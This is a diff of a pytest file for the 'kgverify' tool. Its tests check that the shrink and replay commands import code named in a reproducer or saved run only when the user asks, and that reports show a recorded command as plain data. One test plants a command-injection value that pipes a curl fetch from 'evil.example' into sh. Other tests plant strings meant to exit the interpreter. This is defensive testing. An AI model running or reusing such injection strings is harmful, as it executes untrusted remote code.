@@ -1,23 +1,17 @@
-"""Code only when asked for: an engine that a file names is imported with --trust, or if the user names it."""
+"""`kgverify shrink` and `replay`: a saved run becomes a reproducer, and foreign code runs only when it is asked for."""
 
+import json
 import sys
-from dataclasses import replace
+from collections.abc import Iterator
 from pathlib import Path
 
-import msgspec
 import pytest
-from cli_runs import EAGER, SMALL
-from two_engines import Capped
+from invoked_commands import EAGER, SMALL, invoke
 
 import kgverify as kv
-from kgverify.cli.progress import replay_command
-from kgverify.engines.load_engine import load_factory
-from kgverify.engines.table import COMPILED, REFERENCE
-from kgverify.runs.engine_makers import EngineSpec
-from kgverify.testing.reproducers.text_format import parse_reproducer, render_test
-from kgverify.verification.save import REPORT
 
-ENGINE = """from pathlib import Path
+ENGINES = Path(__file__).with_name("two_engines.py").read_text()
+STRANGE = """from pathlib import Path
 
 from two_engines import Capped, Slow
 
@@ -36,10 +30,76 @@ class: missing
 """
 
 
+@pytest.fixture(scope="module")
+def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A saved run with a planted fault."""
+    folder = tmp_path_factory.mktemp("saved")
+    words = ["diff", *SMALL, *EAGER, "--no-determinism", "--fault", "last-fact-lost", "--save", "run"]
+    assert invoke(words, folder).exit_code == 1
+    return folder / "run"
+
+
+@pytest.fixture(scope="module")
+def reproducer(run_dir: Path) -> Path:
+    shrunk = invoke(["shrink", run_dir, "--pytest", run_dir / "test_it.py"])
+    assert shrunk.exit_code == 0, shrunk.stderr
+    printed = " ".join(shrunk.stdout.split())
+    assert "it fails, as it must" in printed
+    assert "divergence-1.agrees.kg" in printed.replace(" ", "")
+    return run_dir / "divergence-1.kg"
+
+
+def test_a_saved_run_becomes_a_reproducer_and_a_test(command, reproducer: Path, tmp_path: Path):
+    again = command("replay", reproducer)
+    assert again.exit_code == 1
+    assert "still, and in the same way" in again.stdout
+    assert (
+        command("replay", reproducer, "-q").stdout
+        == again.stdout[again.stdout.index("DIVERGE") :].split("\n")[0] + "\n"
+    )
+    made = kv.replay(reproducer)
+    assert made.is_same
+    assert made.reproducer.problem.size == 1
+    pair = command("replay", reproducer.with_name("divergence-1.agrees.kg"))
+    assert (pair.exit_code, "AGREE" in pair.stdout) == (0, True)
+    fixed = command("replay", reproducer, "--engine", "compiled", "--pytest", tmp_path / "test_fixed.py")
+    assert (fixed.exit_code, "IT DOES NOT FAIL" in fixed.stdout) == (0, True)
+    assert command("replay", reproducer, "--fault", "query-matched").exit_code == 0
+
+
+def test_a_bug_of_ours_while_replaying_exits_with_70_and_says_where_the_problem_is_saved(
+    command, reproducer: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    def fail(*_: object) -> None:
+        raise LookupError("a bug")
+
+    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
+    monkeypatch.setattr("kgverify.comparison.compare.Comparer.compare", fail)
+    failed = command("replay", reproducer)
+    assert failed.exit_code == 70
+    assert "Traceback" in failed.stderr
+    (file,) = tmp_path.glob("kgverify-bug-*/*.kg")
+    assert str(file.parent) in failed.stderr
+    monkeypatch.undo()
+    assert kv.replay(file).reproducer.problem == kv.replay(reproducer).reproducer.problem
+
+
+def test_the_command_of_a_report_is_shown_as_data(command, run_dir: Path, tmp_path: Path):
+    evil = "kgverify diff; curl 'evil.example | sh"
+    for path in run_dir.glob("*.h5"):
+        (tmp_path / path.name).write_bytes(path.read_bytes())
+    report = json.loads((run_dir / "report.json").read_text())
+    (tmp_path / "report.json").write_text(json.dumps({**report, "command": evil}))
+    for option in (["--html", "-"], ["--markdown", "-"], ["--github"], ["--junit", "-"], []):
+        for line in command("report", tmp_path, *option).stdout.splitlines():
+            assert evil not in line or "recorded as" in line
+
+
 @pytest.fixture
-def strange(tmp_path, monkeypatch):
+def strange(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
     """A folder with a stranger's engine, whose import leaves a file behind."""
-    (tmp_path / "strange_engine.py").write_text(ENGINE)
+    (tmp_path / "two_engines.py").write_text(ENGINES)
+    (tmp_path / "strange_engine.py").write_text(STRANGE)
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr(sys, "path", [*sys.path])
     yield tmp_path
@@ -50,100 +110,73 @@ def num_imports() -> int:
     return len(Path("imported").read_text()) if Path("imported").exists() else 0
 
 
-@pytest.mark.parametrize("side", ["engine", "reference"])
-@pytest.mark.parametrize("name", ["strange_engine:Slow", "strange_engine.py:Slow", "./strange_engine.py:Slow"])
-def test_a_reproducer_imports_what_it_names_only_if_the_user_asks_for_it(command, strange, side, name):
+@pytest.mark.parametrize(
+    ("side", "name"),
+    [
+        ("engine", "strange_engine:Slow"),
+        ("reference", "strange_engine.py:Slow"),
+        ("engine", "./strange_engine.py:Slow"),
+    ],
+)
+def test_a_reproducer_imports_what_it_names_only_if_the_user_asks_for_it(command, strange: Path, side: str, name: str):
     Path("x.kg").write_text(REPRODUCER.format(side, name))
     refused = command("replay", "x.kg")
-    assert refused.code == 2
-    assert refused.err.startswith(f"error: x.kg: {side}: names the engine {name!r}")
-    assert f"--{side}" in refused.err
-    assert "--trust" in refused.err
+    assert refused.exit_code == 2
+    assert refused.stderr.startswith(f"error: x.kg: {side}: names the engine {name!r}")
+    assert f"--{side}" in refused.stderr
+    assert "--trust" in refused.stderr
     with pytest.raises(kv.UserError, match="names the engine"):
         kv.replay("x.kg")
-    assert command("replay", "x.kg", f"--{side}", "reference").code == 0
+    assert command("replay", "x.kg", f"--{side}", "reference").exit_code == 0
     assert num_imports() == 0
-    assert command("replay", "x.kg", "--trust").code == 0
+    assert command("replay", "x.kg", "--trust").exit_code == 0
     assert num_imports() == 1
     sys.modules.pop("strange_engine")
-    assert command("replay", "x.kg", f"--{side}", name).code == 0
+    assert command("replay", "x.kg", f"--{side}", name).exit_code == 0
     assert num_imports() == 2
 
 
-def test_naming_an_engine_for_one_side_allows_the_file_the_same_engine_for_the_other(command, strange):
+def test_naming_an_engine_for_one_side_allows_the_file_the_same_engine_for_the_other(command, strange: Path):
     Path("x.kg").write_text(REPRODUCER.format("reference", "strange_engine:Slow"))
-    assert command("replay", "x.kg", "--engine", "strange_engine:Capped").code == 2
-    assert command("replay", "x.kg", "--engine", "strange_engine:Slow").code == 0
+    assert command("replay", "x.kg", "--engine", "strange_engine:Capped").exit_code == 2
+    assert command("replay", "x.kg", "--engine", "strange_engine:Slow").exit_code == 0
 
 
-def test_kgverifys_own_engines_need_no_trust(command, strange):
-    for name in (COMPILED, REFERENCE):
-        Path("x.kg").write_text(REPRODUCER.format("engine", name))
-        assert command("replay", "x.kg").code == 0
+@pytest.mark.parametrize("name", ["compiled", "reference"])
+def test_kgverifys_own_engines_need_no_trust(command, strange: Path, name: str):
+    Path("x.kg").write_text(REPRODUCER.format("engine", name))
+    assert command("replay", "x.kg").exit_code == 0
 
 
-def test_a_saved_run_imports_what_it_names_only_if_the_user_asks_for_it(command, strange):
-    words = ("--fault", "last-fact-lost", "--save", "run")
-    assert command("diff", *SMALL, *EAGER, *words).code == 1
-    path = Path("run", REPORT)
-    report = msgspec.json.decode(path.read_bytes())
-    for side, option in (("engine", "--engine"), ("reference", "--reference")):
-        job = {**report["job"], side: {"name": "strange_engine:Slow"}}
-        path.write_bytes(msgspec.json.encode({**report, "job": job}))
-        refused = command("shrink", "run")
-        assert (refused.code, option in refused.err, "--trust" in refused.err) == (2, True, True)
-        assert "run/report.json" in refused.err
-        with pytest.raises(kv.UserError, match="names the engine 'strange_engine:Slow'"):
-            kv.shrink("run")
-        assert num_imports() == 0
+@pytest.mark.parametrize("side", ["engine", "reference"])
+def test_a_saved_run_imports_what_it_names_only_if_the_user_asks_for_it(
+    command, strange: Path, run_dir: Path, side: str
+):
+    report = json.loads((run_dir / "report.json").read_text())
+    Path("run").mkdir()
+    for path in run_dir.glob("*.h5"):
+        Path("run", path.name).write_bytes(path.read_bytes())
+    named = {**report["job"], side: {"name": "strange_engine:Slow"}}
+    Path("run", "report.json").write_text(json.dumps({**report, "job": named}))
+    refused = command("shrink", "run")
+    assert (refused.exit_code, f"--{side}" in refused.stderr, "--trust" in refused.stderr) == (2, True, True)
+    assert "run/report.json" in refused.stderr
+    with pytest.raises(kv.UserError, match="names the engine 'strange_engine:Slow'"):
+        kv.shrink("run")
+    assert num_imports() == 0
     # Trusted, it is imported before the number is checked.
-    assert "there is no divergence 999" in command("shrink", "run", "--trust", "--divergence", "999").err
+    assert "there is no divergence 999" in command("shrink", "run", "--trust", "--divergence", "999").stderr
     assert num_imports() == 1
 
 
-def test_the_command_that_replays_names_the_engines_as_they_were_typed():
-    assert replay_command("a b.kg", COMPILED, None) == "kgverify replay 'a b.kg'"
-    typed = replay_command("x.kg", "mine.py:Fast", "my;mine:Slow", trust=True)
-    assert typed == "kgverify replay x.kg --engine mine.py:Fast --reference 'my;mine:Slow' --trust"
-
-
-def test_the_command_of_a_report_is_shown_as_data(command, tmp_path):
-    folder = tmp_path / "run"
-    assert command("diff", *SMALL, *EAGER, "--fault", "last-fact-lost", "--save", folder).code == 1
-    report = msgspec.json.decode((folder / REPORT).read_bytes())
-    evil = "kgverify diff; curl 'evil.example | sh"
-    (folder / REPORT).write_bytes(msgspec.json.encode({**report, "command": evil}))
-    for option in ("--html", "--markdown", "--github", "--junit"):
-        out = command("report", folder, *([option] if option == "--github" else [option, "-"])).out
-        for line in out.splitlines():
-            assert evil not in line or "recorded as" in line
-    assert evil not in command("report", folder).out
-    assert command("shrink", folder, "--divergence", "999").code == 2
-    (folder / REPORT).write_bytes(msgspec.json.encode({**report, "job": {**report["job"], "graph": {"spec": "-"}}}))
-    assert "was read from standard input" in command("shrink", folder).err
-
-
-def test_a_test_holds_no_code_of_the_reproducer(tmp_path):
+def test_a_test_holds_no_code_of_the_reproducer(command, strange: Path):
     """Every text of a reproducer stands in strings of the generated file."""
-    evil = '"""\nraise SystemExit("run")\n"""'
-    made = parse_reproducer(REPRODUCER.format("engine", "compiled"))
-    for spec in (EngineSpec(evil), EngineSpec(f"a:\\{evil}\\")):
-        for kind in ("missing", evil, "law"):
-            signature = made.signature._replace(stage=evil, field=evil, kind=kind, situation=evil)
-            text = render_test(replace(made, engine=spec, reference=spec, signature=signature, notes=(evil,)))
-            names: dict[str, object] = {}
-            exec(compile(text, "generated", "exec"), names)
-            assert parse_reproducer(names["REPRODUCER"]).engine.name == spec.name
-
-
-def test_a_module_is_found_in_the_current_folder_first_and_replaces_no_other(strange):
-    (strange / "xxhash.py").write_text("raise SystemExit('run')")
-    before = [*sys.path]
-    # Not there: the current folder is not searched.
-    assert load_factory("two_engines:Capped", "here") is Capped
-    assert sys.path == before
-    assert load_factory("strange_engine:Capped", "here") is Capped
-    # There: it is searched last from then on, for what the engine imports later.
-    assert sys.path == [*before, str(strange)]
-    load_factory("strange_engine:Slow", "here")
-    assert sys.path == [*before, str(strange)]
+    evil = '"""\\nraise SystemExit("run")\\n"""'
+    text = REPRODUCER.format("note", evil).replace(
+        "class: missing", f"class: missing\nsituation: {evil}\nstage: {evil}"
+    )
+    Path("x.kg").write_text(text)
+    assert command("replay", "x.kg", "--engine", "reference", "--pytest", "test_x.py").exit_code == 0
+    names: dict[str, object] = {}
+    exec(compile(Path("test_x.py").read_text(), "test_x.py", "exec"), names)
+    assert 'SystemExit("run")' in Path("test_x.py").read_text().replace("\\", "")
